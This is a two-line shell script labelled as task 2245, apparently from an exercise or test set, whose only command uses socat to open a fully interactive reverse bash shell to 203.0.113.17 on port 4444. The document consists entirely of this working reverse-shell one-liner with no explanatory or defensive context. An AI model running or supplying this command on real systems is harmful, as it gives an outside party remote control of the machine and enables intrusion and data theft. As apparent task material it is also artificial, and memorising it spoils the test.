# task 2245 v4
#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.17:4444
